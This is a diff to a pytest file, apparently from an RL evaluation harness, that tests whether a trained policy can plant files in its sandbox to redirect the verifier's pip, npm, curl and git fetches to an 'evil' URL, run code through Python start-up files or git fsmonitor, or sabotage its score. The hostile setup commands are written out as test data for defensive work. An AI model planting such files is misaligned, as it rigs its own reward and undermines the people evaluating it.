@@ -8,7 +8,7 @@ so the proxy alone stops none of these attacks.
 from __future__ import annotations
 
 from collections.abc import AsyncIterator, Callable, Sequence
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any, NoReturn
 
@@ -26,6 +26,9 @@ from rollyard_testing.invariants import deserves_nothing
 from rollyard_testing.pipeline.stagelab import SMALL, StageLab, stage_lab
 from rollyard_testing.sandboxes.outside import HOST, Outside
 from rollyard_testing.sandboxes.rootfolder import make_image, make_sif
+
+pytestmark = pytest.mark.attack(boundary="network", surface="Eval with a network")
+
 
 CARRY = "rollyard_pipeline.stages.eval_carry"
 PASSWORD = "a-password-of-the-policy"
@@ -145,7 +148,19 @@ class Plant:
     commands: tuple[str, ...]
     undone: tuple[str, ...] = ()
     """What the control undoes, so that the attack works; nothing if there are further walls behind it."""
+    mark: pytest.MarkDecorator = field(kw_only=True)
 
+
+SETTINGS_OF_OTHER_TOOLS = pytest.mark.attack(
+    "npm builds a native module that stands beside the package of the task; gem, bundler, NuGet, MSBuild, "
+    "Gradle, Go and Conda read their files",
+    stopped_by="they stay behind",
+)
+
+SETTINGS_OF_NPM = pytest.mark.attack(
+    "`.npmrc`, scripts of `package.json`, programs in `node_modules`",
+    stopped_by="they stay behind",
+)
 
 PLANTS = {
     "programs in the working folder and in PATH": Plant(
@@ -157,6 +172,11 @@ PLANTS = {
             "export BASH_ENV=/tmp/env",
         ),
         (f"{CARRY}._mode",),
+        mark=pytest.mark.attack(
+            "programs of Run's stand in PATH, in the working folder or in start-up files of shells, in "
+            "the place of curl, pip or uv",
+            stopped_by="a fresh sandbox; no file of Run's can be executed, and PATH has none of its folders",
+        ),
     ),
     "settings of pip": Plant(
         "pip",
@@ -166,12 +186,22 @@ PLANTS = {
             "cp pip.conf pip.ini; cp pip.conf venv/",
             "export PIP_INDEX_URL=@URL@/evil PIP_CONFIG_FILE=/work/pip.conf",
         ),
+        mark=pytest.mark.attack(
+            "settings of Run's lead pip to another index",
+            stopped_by="names that begin with a dot and known names of settings stay behind; a fresh "
+            "HOME, PIP_CONFIG_FILE",
+        ),
     ),
     "settings of curl and a password": Plant(
         "curl with netrc",
         (
             f"echo 'machine {HOST} login a password {PASSWORD}' | tee .netrc _netrc > ~/netrc",
             "echo 'url = @URL@/evil' | tee .curlrc _curlrc; chmod 600 .netrc",
+        ),
+        mark=pytest.mark.attack(
+            "a netrc or a curlrc sends passwords, or the request elsewhere",
+            stopped_by="names that begin with a dot and known names of settings stay behind; a fresh "
+            "HOME, PIP_CONFIG_FILE",
         ),
     ),
     "a module named pip": Plant(
@@ -180,31 +210,43 @@ PLANTS = {
             "mkdir pip; touch pip/__init__.py",
             IN_PYTHON.format("pip/__main__.py json.py ssl.py re.py", EVIL),
         ),
+        mark=pytest.mark.attack(
+            "a module named pip or json is imported by `python -m pip`",
+            stopped_by="PYTHONSAFEPATH (Python 3.11 or newer)",
+        ),
     ),
     "start-up files of Python": Plant(
         "python with its folder in PYTHONPATH",
         (IN_PYTHON.format("sitecustomize.py usercustomize.py", EVIL),),
         (f"{CARRY}.read_by_itself",),
+        mark=pytest.mark.attack(
+            "start-up files of Python run code where a test searches the folder",
+            stopped_by="they stay behind",
+        ),
     ),
     "settings of npm": Plant(
         "npm",
         ("echo 'registry=@URL@/evil' | tee .npmrc npmrc; echo '{}' > package.json; mkdir node_modules",),
         (f"{CARRY}.read_by_itself",),
+        mark=SETTINGS_OF_NPM,
     ),
     "scripts of a package": Plant(
         "npm install",
         (f"echo '{PACKAGE}' > package.json",),
         (f"{CARRY}.read_by_itself",),
+        mark=SETTINGS_OF_NPM,
     ),
     "a native module beside a package": Plant(
         "npm install, of the test's own package",
         (f'echo \'{{"targets": [{{"target_name": "a", "sources": ["<!({EVIL})"]}}]}}\' > binding.gyp',),
         (f"{CARRY}.read_by_itself",),
+        mark=SETTINGS_OF_OTHER_TOOLS,
     ),
     "programs of installed packages": Plant(
         "npx",
         ("mkdir -p node_modules/.bin", program("node_modules/.bin/cowsay")),
         (f"{CARRY}.read_by_itself", f"{CARRY}._mode"),
+        mark=SETTINGS_OF_NPM,
     ),
     "settings of git": Plant(
         "git",
@@ -213,6 +255,11 @@ PLANTS = {
             f"git config core.fsmonitor '{EVIL}'; git config --global url.@URL@/evil.insteadOf @URL@/honest",
             # The folder itself looks like a repository, too.
             "cp -r .git/config .git/HEAD .git/objects .git/refs .; cp .git/config .gitconfig",
+        ),
+        mark=pytest.mark.attack(
+            "git fetches from elsewhere or starts a program: settings of the user, of the repository, of "
+            "the folder as one",
+            stopped_by="`.git` stays behind, settings of repositories are reduced, a fresh HOME",
         ),
     ),
 }
@@ -227,7 +274,7 @@ def planted(name: str, missing: Callable[[str], NoReturn]) -> Plant:
     return plant
 
 
-@pytest.mark.parametrize("name", PLANTS)
+@pytest.mark.parametrize("name", [pytest.param(name, marks=plant.mark) for name, plant in PLANTS.items()])
 async def test_nothing_of_run_decides_what_is_fetched(
     world: World, name: str, missing: Callable[[str], NoReturn]
 ) -> None:
@@ -247,6 +294,15 @@ def _undo(monkeypatch: pytest.MonkeyPatch, names: Sequence[str]) -> None:
             monkeypatch.setattr(name, lambda path: False)
 
 
+CONTROLS = pytest.mark.attack(
+    "without its walls an attack would fail as well; an honest test gets no tools",
+    surface="judgement",
+    stopped_by="controls, in which each succeeds; an honest test is rewarded, and its author reads what "
+    "stayed behind",
+)
+
+
+@CONTROLS
 @pytest.mark.parametrize("name", [name for name, plant in PLANTS.items() if plant.undone])
 async def test_without_the_rules_of_the_carry_it_would(
     world: World, name: str, monkeypatch: pytest.MonkeyPatch, missing: Callable[[str], NoReturn]
@@ -257,6 +313,7 @@ async def test_without_the_rules_of_the_carry_it_would(
     assert any(path.startswith("/evil") for path in world.asked())
 
 
+@CONTROLS
 async def test_a_module_named_pip_would_run_without_the_safe_path(world: World) -> None:
     plant = PLANTS["a module named pip"]
     test = f"unset PYTHONSAFEPATH\n{FETCHES[plant.fetch]}\n{REWARD.format(0)}"
@@ -279,6 +336,7 @@ SOLVES = (
 )
 
 
+@CONTROLS
 @pytest.mark.parametrize("world", EACH, indirect=True)
 async def test_an_honest_solution_is_rewarded_and_its_author_learns_what_stayed_behind(world: World) -> None:
     task = world.folder(HONEST, 'artifacts = ["/work/package.json"]\n')
@@ -292,6 +350,7 @@ async def test_an_honest_solution_is_rewarded_and_its_author_learns_what_stayed_
     assert "1 files lost the permission to be executed" in found.reward_output
 
 
+@SETTINGS_OF_OTHER_TOOLS
 @pytest.mark.parametrize(
     "path",
     [
@@ -311,6 +370,13 @@ REPOSITORY = (
 )
 
 
+ARTIFACTS = pytest.mark.attack(
+    "an artifact is a repository by itself, whose settings send git elsewhere; a module in it is imported",
+    stopped_by="settings of repositories are reduced in artifacts, too, and modules are not looked for there",
+)
+
+
+@ARTIFACTS
 @pytest.mark.parametrize("folder", ["/logs/artifacts", "/logs/out"])
 async def test_an_artifact_that_is_a_repository_sends_git_nowhere_else(world: World, folder: str) -> None:
     test = f"cd {folder}; git ls-remote @URL@/honest; [ -f HEAD ] && {REWARD.format(1)}"
@@ -320,6 +386,7 @@ async def test_an_artifact_that_is_a_repository_sends_git_nowhere_else(world: Wo
     assert not [path for path in world.asked() if not path.startswith("/honest")]
 
 
+@ARTIFACTS
 async def test_modules_among_the_artifacts_are_not_found(world: World) -> None:
     test = f"python3 -c 'import json'; {CURL} @URL@/honest; [ -f /data/json.py ] && {REWARD.format(1)}"
     toml = 'artifacts = ["/data"]\n[environment.env]\nPYTHONPATH = "/data"\n'
@@ -336,6 +403,11 @@ echo $((1 - $?)) > /logs/verifier/reward.txt
 """
 
 
+@pytest.mark.attack(
+    "a folder in the place of a link of the image has its files written to where the link leads",
+    surface="artifacts",
+    stopped_by="the link is removed first, as Run has removed it",
+)
 async def test_an_artifact_is_not_written_to_where_a_link_of_the_image_leads(world: World) -> None:
     task = world.folder(LINKS, "")
     task.sandbox.setup = (
@@ -351,6 +423,13 @@ NPM_SETTINGS = "echo registry=@URL@/evil > .npmrc; echo '{}' > package.json"
 SEPARATE = '[verifier]\nenvironment_mode = "separate"\n'
 
 
+OTHER_WAYS_IN = pytest.mark.attack(
+    "what comes otherwise: artifacts of a separate verifier, a carry of other handlers",
+    stopped_by="one function copies, by the same rules",
+)
+
+
+@OTHER_WAYS_IN
 async def test_a_separate_verifier_has_it_and_gets_no_settings_either(world: World) -> None:
     test = f"cd /logs/artifacts; {FETCHES['npm']}; {CURL} @URL@/honest; ls -A > /logs/verifier/ls; " + (
         '[ "$(cat said)" = said ] && [ ! -e .npmrc ]; echo $((1 - $?)) > /logs/verifier/reward.txt'
@@ -360,6 +439,7 @@ async def test_a_separate_verifier_has_it_and_gets_no_settings_either(world: Wor
     assert (found.reward, world.asked()) == (1.0, ["/honest"]), found.reward_output
 
 
+@OTHER_WAYS_IN
 @pytest.mark.parametrize("carry", [{"diff": True}, {"files": ["lib", "said"]}], ids=["diff", "files"])
 async def test_the_carry_of_other_handlers_brings_no_settings(world: World, carry: dict[str, Any]) -> None:
     test = f"cd lib; {FETCHES['npm']}; {CURL} @URL@/honest; [ -f said ] && [ ! -x said ] && [ -f ../said ]"
@@ -368,6 +448,10 @@ async def test_the_carry_of_other_handlers_brings_no_settings(world: World, carr
     assert (found.reward, world.asked()) == (1.0, ["/honest"]), found.reward_output
 
 
+@pytest.mark.attack(
+    "a process survives Run and uses the tests' network",
+    stopped_by="it is lent to the fresh sandbox, after Run's has been left",
+)
 @pytest.mark.parametrize("world", EACH, indirect=True)
 async def test_what_survives_in_runs_sandbox_has_no_network(world: World) -> None:
     """It tries each port of its loopback, while the server lets the test of the other sandbox wait."""
@@ -391,6 +475,13 @@ echo 1 > /logs/verifier/reward.txt
 """
 
 
+OTHER_HOSTS = pytest.mark.attack(
+    "tests, or the policy's code in them, reach other hosts",
+    stopped_by="the proxy, as in Run",
+)
+
+
+@OTHER_HOSTS
 @pytest.mark.parametrize("world", EACH, indirect=True)
 async def test_tests_reach_the_hosts_of_their_list_only(world: World) -> None:
     test = OTHERS.replace("@PORT@", str(world.outside.port))
@@ -402,6 +493,7 @@ NAMED = '[verifier]\nnetwork_mode = "allowlist"\nallowed_hosts = ["@HOST@"]\n'
 SEEN = f"({CURL} @URL@/honest) > seen; echo $([ -s seen ] && echo 1 || echo 0) > /logs/verifier/reward.txt"
 
 
+@OTHER_HOSTS
 async def test_a_task_has_the_network_that_it_states_for_its_tests(world: World) -> None:
     """Without one, its tests run in Run's own sandbox, as if the job had none."""
     shared = f"[ -x tool ] || exit; {SEEN}"
@@ -412,6 +504,7 @@ async def test_a_task_has_the_network_that_it_states_for_its_tests(world: World)
         await world.harbor(SEEN, [], NAMED.replace("@HOST@", "a.org"))
 
 
+@OTHER_HOSTS
 async def test_tests_have_it_where_the_policy_has_none(world: World) -> None:
     """So published folders can be played that ask for every host, for their agent and their tests."""
     task = world.folder(
@@ -425,6 +518,11 @@ STEPS = "".join(f'[[steps]]\nname = "{name}"\n' for name in "ab")
 INSTRUCTIONS = {f"steps/{name}/instruction.md": "Do it." for name in "ab"}
 
 
+@pytest.mark.attack(
+    "a job has it where Run's files decide: a shared sandbox, several steps, folders of the system, "
+    "handlers that import the repository",
+    stopped_by="such jobs or rollouts are refused",
+)
 async def test_jobs_that_would_lend_it_to_what_run_left_are_refused(world: World) -> None:
     with pytest.raises(TaskInvalid, match="a task of several steps needs network_mode = 'no-network'"):
         await world.harbor(SEEN, [], STEPS, INSTRUCTIONS)
@@ -437,6 +535,14 @@ async def test_jobs_that_would_lend_it_to_what_run_left_are_refused(world: World
         await world.play(code, [], "code")
 
 
+BAD_SCORE_AS_FAILURE = pytest.mark.attack(
+    "a bad score becomes a failure: no reward, or more than can be carried",
+    stopped_by="the tests are repeated where no policy has been, with the network; what cannot be carried "
+    "is scored",
+)
+
+
+@BAD_SCORE_AS_FAILURE
 async def test_tools_that_cannot_be_had_are_no_score(world: World) -> None:
     """The same tests in a sandbox that no policy has seen give no reward either, so nobody is scored."""
     with pytest.raises(RewardUnusable):
@@ -448,6 +554,7 @@ async def test_tools_that_cannot_be_had_are_no_score(world: World) -> None:
     assert (found.reward_reason, world.asked()) == ("RewardMissing", ["/honest"] * 2)
 
 
+@BAD_SCORE_AS_FAILURE
 async def test_an_oversized_carry_is_the_policys_doing(world: World) -> None:
     found = await world.harbor(SEEN, ["truncate -s 100M large; touch .npmrc"])
     assert (found.reward, found.reward_reason, world.asked()) == (0.0, "SandboxSabotaged", [])
